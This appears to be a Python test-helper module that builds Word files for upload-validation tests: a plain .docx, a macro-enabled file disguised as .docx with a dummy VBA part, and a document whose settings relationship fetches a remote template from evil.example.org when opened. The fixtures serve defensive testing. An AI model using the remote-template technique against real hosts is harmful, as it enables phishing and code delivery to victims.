"""Word files made in tests: a plain one, and the hostile kinds an upload must refuse."""

from __future__ import annotations

import io
import zipfile

from docx import Document


def docx_bytes(text: str) -> bytes:
    """A plain .docx holding one paragraph of ``text``."""
    document = Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewritten(content: bytes, change: dict[str, bytes | None]) -> bytes:
    """The package with parts replaced (bytes), added, or removed (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            if member.filename in change:
                continue
            target.writestr(member, source.read(member))
        for name, data in change.items():
            if data is not None:
                target.writestr(name, data)
    return out.getvalue()


def macro_enabled(text: str = "Looks like a letter") -> bytes:
    """A macro-enabled document renamed .docx: its main part says so, and it carries a VBA project."""
    content = docx_bytes(text)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        types = package.read("[Content_Types].xml").replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml")
    return rewritten(content, {"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really VBA"})


def with_external_template(text: str = "Looks like a letter") -> bytes:
    """A document that fetches its template from another machine when Word opens it."""
    content = docx_bytes(text)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        names = package.namelist()
    settings_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                     b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                     b'Target="http://evil.example.org/template.dotm" TargetMode="External"/></Relationships>')
    assert "word/settings.xml" in names
    return rewritten(content, {"word/_rels/settings.xml.rels": settings_rels})
